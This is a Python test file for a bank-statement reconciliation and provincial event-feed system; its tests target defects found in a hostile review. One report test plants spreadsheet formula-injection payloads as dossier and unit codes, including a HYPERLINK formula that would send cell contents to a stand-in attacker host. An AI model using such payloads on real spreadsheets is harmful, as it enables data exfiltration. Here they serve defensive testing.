"""Attacks on the bank statements, the matching, the provincial feed and the checks, from a hostile review:
each test failed on the code it attacked, and passes since its defect was fixed."""

from __future__ import annotations

import asyncio
import csv
import json
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import orjson
import pytest
from prometheus_client import CollectorRegistry

from lienthong.app import build
from lienthong.bank.csvfile import CsvColumns, CsvLayout
from lienthong.bank.matching import Matcher, Payment, Report
from lienthong.bank.records import StatementError, StatementSummary, Transaction, plain_amount
from lienthong.bank.statements import read_statements
from lienthong.bus.envelope import parse_body
from lienthong.checks.integrity import IntegrityRules, check_all
from lienthong.config import Config
from lienthong.model import LedgerEntry
from lienthong.sandbox.base import Answer
from lienthong.sandbox.dossiers import generate, interleave
from lienthong.sandbox.provincial import ProvincialSandbox
from lienthong.scheduler.schedule import zone
from lienthong.store import units
from test_bank_statements import balance, document, entry, statement, tx_amount
from test_feed import node

DAY = date(2026, 12, 1)
HCM = zone("Asia/Ho_Chi_Minh")


def read(path: Path, text: str | bytes, **kwargs: Any) -> tuple[list[Transaction], list[StatementSummary]]:
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    items = list(read_statements(path, **kwargs))
    return [i for i in items if isinstance(i, Transaction)], [
        i for i in items if isinstance(i, StatementSummary)
    ]


def tx(
    amount: int | str, *refs: str, currency: str = "VND", reversal: bool = False, text: str = ""
) -> Transaction:
    return Transaction(Decimal(amount), currency, DAY, DAY, "BOOK", refs, text, "", "", reversal, 0, 10)


def match(payments: list[Payment], *items: tuple[Transaction, str] | Transaction) -> Report:
    matcher = Matcher(payments, date_tolerance_days=1, amount_tolerance=0)
    for item in items:
        if isinstance(item, tuple):
            matcher.add(*item)
        else:
            matcher.add(item)
    return matcher.finish()


# -- camt: what a well-formed file can make the reader believe ---------------------------------------------


def test_split_entry_transactions_cannot_add_up_to_more_than_the_entry_the_bank_booked(
    tmp_path: Path,
) -> None:
    # Given an entry the bank booked for 100 VND (the statement rolls forward on it), whose two transaction
    # details each claim 500,000 VND
    details = (
        "<NtryDtls>"
        + "".join(
            f"<TxDtls><Refs><EndToEndId>LT-{n}</EndToEndId></Refs>{tx_amount('08', '500000')}</TxDtls>"
            for n in (1, 2)
        )
        + "</NtryDtls>"
    )
    body = balance("OPBD", "0") + entry("08", "100", details=details) + balance("CLBD", "100")
    # When the file is read
    try:
        transactions, (summary,) = read(tmp_path / "s.xml", document("08", statement("08", body)))
    except StatementError:
        return  # refusing the file is a fine answer
    # Then the transactions handed to the matching never credit more than the account received
    assert summary.rolls_forward is True
    assert sum(t.amount for t in transactions) == summary.booked_sum, (
        f"the bank booked {summary.booked_sum}, the matching is told {sum(t.amount for t in transactions)}"
    )


def test_a_split_entry_in_001_02_takes_the_credited_amount_not_the_instructed_one(tmp_path: Path) -> None:
    # Given a 001.02 entry of two transfers, each instructed as 500,000 but credited 489,000 (charges
    # taken); ISO 20022 orders AmtDtls as InstdAmt, TxAmt, ...
    detail = (
        "<TxDtls><Refs><EndToEndId>LT-{n}</EndToEndId></Refs><AmtDtls>"
        '<InstdAmt><Amt Ccy="VND">500000</Amt></InstdAmt><TxAmt><Amt Ccy="VND">489000</Amt></TxAmt>'
        "</AmtDtls></TxDtls>"
    )
    details = "<NtryDtls>" + detail.format(n=1) + detail.format(n=2) + "</NtryDtls>"
    transactions, _ = read(
        tmp_path / "s.xml", document("02", statement("02", entry("02", "978000", details=details)))
    )
    # Then each transaction is what reached the account (TxAmt), as the docstring of camt.py says
    assert [t.amount for t in transactions] == [Decimal(489000), Decimal(489000)]


@pytest.mark.parametrize(
    "variant",
    ["a statement in another camt version", "a prefixed Document with unprefixed statements"],
)
def test_statements_the_reader_cannot_place_are_not_silently_dropped(tmp_path: Path, variant: str) -> None:
    if variant == "a statement in another camt version":
        # Given a 001.08 file whose second statement declares the 001.02 namespace
        other = statement("02", entry("02", "777000")).replace(
            "<Stmt>", '<Stmt xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">', 1
        )
        text = document("08", statement("08", entry("08", "1")), other)
        expected = 2
    else:
        # Given a Document with a prefix whose statements carry no namespace at all
        text = (
            document("08", statement("08", entry("08", "777000")))
            .replace("<Document xmlns=", "<c:Document xmlns:c=")
            .replace("</Document>", "</c:Document>")
        )
        expected = 1
    # When it is read: either refused, or every statement in it is read
    try:
        _, summaries = read(tmp_path / "s.xml", text)
    except StatementError:
        return
    assert len(summaries) == expected, f"{variant}: the 777,000 credit vanished without an error"


def test_an_entry_outside_any_statement_is_not_handed_to_the_matching(tmp_path: Path) -> None:
    # Given a statement that rolls forward, and a stray booked credit after it, in no statement
    body = balance("OPBD", "0") + entry("08", "1") + balance("CLBD", "1")
    text = document("08", statement("08", body)).replace(
        "</BkToCstmrStmt>", entry("08", "999000") + "</BkToCstmrStmt>"
    )
    try:
        transactions, summaries = read(tmp_path / "s.xml", text)
    except StatementError:
        return
    # Then no transaction reaches the matching that no statement (and no balance check) accounts for
    assert sum(s.entries for s in summaries) == len(transactions), [t.amount for t in transactions]


@pytest.mark.parametrize("flag", ["1"])
def test_a_reversal_flag_written_as_xs_boolean_1_is_a_reversal(tmp_path: Path, flag: str) -> None:
    # RvslInd is an xs:boolean: "1" means true as much as "true" does
    reversed_entry = entry("08", "150000").replace(
        "</CdtDbtInd>", f"</CdtDbtInd><RvslInd>{flag}</RvslInd>", 1
    )
    transactions, _ = read(tmp_path / "s.xml", document("08", statement("08", reversed_entry)))
    assert transactions[0].reversal is True, "a reversal read as an ordinary credit, free to match a payment"


@pytest.mark.parametrize("amount", ["١٠٠٠٠٠", "１００００００", "५००००"])
def test_amounts_in_other_scripts_digits_are_not_iso_20022_amounts(tmp_path: Path, amount: str) -> None:
    # ISO 20022's amount is [0-9]; Python's \d and Decimal both take any Unicode digit
    assert plain_amount(amount) is None
    text = document("08", statement("08", entry("08", amount)))
    with pytest.raises(StatementError):
        read(tmp_path / "s.xml", text)


# -- CSV ------------------------------------------------------------------------------------------------

LAYOUT = CsvLayout(
    columns=CsvColumns(booked="Ngay", amount="SoTien", reference="Ref", remittance="NoiDung", debtor="Ten")
)


def test_a_csv_amount_with_a_decimal_comma_is_not_read_a_hundred_times_larger(tmp_path: Path) -> None:
    # Given the default layout (thousands ",", decimal ".") and a bank writing "500,00" (500 VND)
    text = 'Ngay,SoTien,Ref,NoiDung,Ten\n01/12/2026,"500,00",FT1,LT-1,A\n'
    # Then the amount is refused (a thousands group has three digits), never read as 50,000
    try:
        transactions, _ = read(tmp_path / "s.csv", text, csv_layout=LAYOUT)
    except StatementError:
        return
    assert transactions[0].amount != Decimal(50000), "'500,00' was read as 50,000"


def test_a_csv_without_its_header_row_does_not_put_a_citizens_id_number_in_the_error(tmp_path: Path) -> None:
    # Given an export whose header row is missing (or skip_rows is wrong): its first row is a payment
    text = "01/12/2026,500000,FT1,HS-1 CCCD 001099012345,Nguyen Van A\n"
    with pytest.raises(StatementError) as caught:
        read(tmp_path / "s.csv", text, csv_layout=LAYOUT)
    # Then the error (stored as the run's detail, printed by `lienthong runs`) names no personal data
    message = str(caught.value)
    assert "001099012345" not in message
    assert "Nguyen Van A" not in message


# -- matching --------------------------------------------------------------------------------------------


def test_the_same_bank_transaction_in_a_notification_and_the_days_statement_is_not_paid_twice(
    tmp_path: Path,
) -> None:
    # Given the intraday camt.054 and the end-of-day camt.053 both showing the one credit the bank booked
    # (same bank reference FT-150000, same end-to-end id, same day)
    credit = entry(
        "08",
        "150000",
        details="<NtryDtls><TxDtls><Refs><EndToEndId>LT-1</EndToEndId></Refs></TxDtls></NtryDtls>",
    )
    notice, _ = read(tmp_path / "n.xml", document("08", statement("08", credit, kind="054"), kind="054"))
    day, _ = read(
        tmp_path / "s.xml",
        document("08", statement("08", balance("OPBD", "0") + credit + balance("CLBD", "150000"))),
    )
    # When both are matched in one run
    report = match([Payment("LT-1", 150_000, DAY)], (notice[0], "n.xml"), (day[0], "s.xml"))
    # Then the citizen is not said to have paid twice (advice: "Refund the second payment")
    assert report.counts["duplicate_payment"] == 0, report.findings


def test_a_credit_in_another_currency_is_not_a_match_for_a_fee_in_vnd() -> None:
    # Given a 150,000 VND fee and a credit of 150,000 USD naming it
    report = match([Payment("LT-1", 150_000, DAY)], tx(150_000, "LT-1", currency="USD"))
    # Then it is a finding a person looks at, not silently counted as matched
    assert report.counts["matched"] == 0
    assert report.findings, "a USD credit was matched to a VND fee"


def test_a_credit_the_bank_reversed_does_not_leave_its_payment_matched() -> None:
    # Given a credit naming LT-1, then the bank's reversal of it (a debit flagged RvslInd, same reference)
    report = match(
        [Payment("LT-1", 150_000, DAY)],
        tx(150_000, "LT-1"),
        tx(-150_000, "LT-1", reversal=True),
    )
    # Then the money is gone: LT-1 is a finding, not a matched payment
    assert any(f.reference == "LT-1" for f in report.findings), report.counts


def test_references_that_collide_once_normalised_do_not_pick_the_last_payment() -> None:
    # Given two payments whose references differ only in punctuation, both 50,000 VND (a common fee)
    payments = [Payment("H56-2612-0001", 50_000, DAY), Payment("H56-26120-001", 50_000, DAY)]
    # When the first one's payer writes it without dashes, and the second's bank passes it as written
    report = match(payments, tx(50_000, "FT1", text="nop phi H5626120001"), tx(50_000, "H56-26120-001"))
    # Then nobody is told to refund the second citizen, as long as both really paid
    assert report.counts["duplicate_payment"] == 0, [(f.kind, f.reference) for f in report.findings]


# -- the provincial feed ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "what"),
    [
        ({"type": "payment.confirmed"}, "a payment.confirmed from outside (a receipt without a payment)"),
        ({"type": "unit.below_target"}, "lienthong's own unit.below_target"),
        ({"event_id": "lienthong:paid:vnpay:TX-1"}, "an id with lienthong's own prefix"),
    ],
)
async def test_the_feed_refuses_what_post_v1_events_refuses(
    tmp_path: Path, province: tuple[ProvincialSandbox, str], change: dict[str, str], what: str
) -> None:
    peer, url = province
    hostile = {**next(iter(interleave(generate(1, seed=3)))), "event_id": "evt-hostile-1", **change}
    peer.publish(hostile)
    bus = node(tmp_path, url)
    bus.store.open()
    try:
        await bus.feeds[0].poll_once()
        stored = await bus.store.run(units.stored_event, hostile["event_id"])
        assert stored is None, f"the feed stored {what}"
    finally:
        bus.store.close()


async def test_a_peer_whose_cursors_go_round_in_a_circle_is_not_polled_without_pause(
    tmp_path: Path, province: tuple[ProvincialSandbox, str]
) -> None:
    # Given a peer answering full pages whose next cursor goes back to one already passed (A, B, A, B...)
    peer, url = province
    changes = list(interleave(generate(3, seed=5)))[:10]
    asked: list[str] = []

    async def circling(request: Any) -> Answer:
        cursor = request.query.get("cursor", "")
        asked.append(cursor)
        return Answer.json({"changes": changes, "next_cursor": "B" if cursor == "A" else "A"})

    peer.routes[("GET", "/api/circle")] = circling
    bus = node(tmp_path, url, path="/api/circle", poll_interval_s=30)
    bus.store.open()
    (feed,) = bus.feeds
    try:
        task = asyncio.create_task(feed.run())
        await asyncio.sleep(0.4)
        feed.stop()
        await asyncio.wait_for(task, 5)
    finally:
        bus.store.close()
    # Then it is not asked again and again within a poll interval of 30 s
    assert len(asked) <= 3, f"asked {len(asked)} times in 0.4 s: {asked[:8]}..."


# -- checks and reports ------------------------------------------------------------------------------------


def test_a_completed_status_in_another_case_is_still_completed() -> None:
    rules = IntegrityRules(frozenset({"processed"}), frozenset({"returned"}), frozenset({"refused"}))
    entries = [LedgerEntry("HS-1", "U1", "e-1", "dossier.status_changed", 1, status="Processed")]
    findings = check_all(entries, rules, datetime(2026, 12, 2, tzinfo=HCM)).findings
    assert [f.kind for f in findings] == ["completed_without_result"]


async def test_the_findings_csv_cannot_carry_a_spreadsheet_formula(tmp_path: Path) -> None:
    # Given dossier and unit codes sent from outside that a spreadsheet would run as formulas
    config = Config.model_validate(
        {
            "store": {"path": str(tmp_path / "store.db")},
            "dispatcher": {"enabled": False},
            "scheduler": {"jobs": {"integrity-check": {"cron": "0 2 * * *"}}},
            "bank_statements": {"reports_dir": str(tmp_path / "reports")},
        }
    )
    node = build(config, registry=CollectorRegistry())
    node.store.open()
    now = datetime(2026, 12, 2, 2, 0, tzinfo=HCM)
    try:
        event = {
            "event_id": "e-formula",
            "type": "dossier.status_changed",
            "occurred_at": (now - timedelta(days=1)).isoformat(),
            "unit_code": "=1+2",
            "dossier": {"code": '=HYPERLINK("http://evil.example/?x="&A1,"open")', "status": "processed"},
        }
        parsed, _ = parse_body(orjson.dumps(event), dossier_code_field="code", max_events=1)
        await node.ingestor.accept(parsed)
        scheduler = node.scheduler
        assert scheduler is not None
        run = await scheduler.run_by_hand(scheduler.window_for("integrity-check", now - timedelta(hours=1)))
        assert run.outcome == "succeeded", run.detail
    finally:
        node.store.close()
    (as_csv,) = [Path(p) for p in run.reports if p.endswith(".csv")]
    with as_csv.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert json.loads(Path(run.reports[0]).read_text())["findings"]  # the finding itself is there


async def test_a_camt053_statement_stripped_of_its_balances_is_a_finding_not_silence(tmp_path: Path) -> None:
    # Given an end-of-day camt.053 (balances are mandatory in it) whose OPBD and CLBD were removed
    from lienthong.bank.job import BankJobSettings, BankReconciliation  # noqa: PLC0415
    from lienthong.scheduler.jobs import RunContext  # noqa: PLC0415
    from lienthong.scheduler.schedule import Window  # noqa: PLC0415
    from lienthong.store import build_store  # noqa: PLC0415

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "eod.xml").write_text(document("08", statement("08", entry("08", "5000"), stmt_id="EOD-1")))
    config = Config.model_validate({"store": {"path": str(tmp_path / "store.db")}})
    store = build_store(config.store, init=True, as_node=False)
    settings = BankJobSettings(inbox, tmp_path / "reports", {}, 10**9, 1, 0, HCM)
    end = datetime(2026, 12, 2, 2, 0, tzinfo=HCM)
    context = RunContext(Window("bank-reconcile", end - timedelta(days=1), end), 1)
    store.open()
    try:
        result = await BankReconciliation(store, settings)(context)
    finally:
        store.close()
    findings = json.loads(Path(result.reports[0]).read_text())["findings"]
    # Then the statement that cannot be checked is named, as one that does not roll forward is
    assert any(f["reference"] == "EOD-1" for f in findings), findings
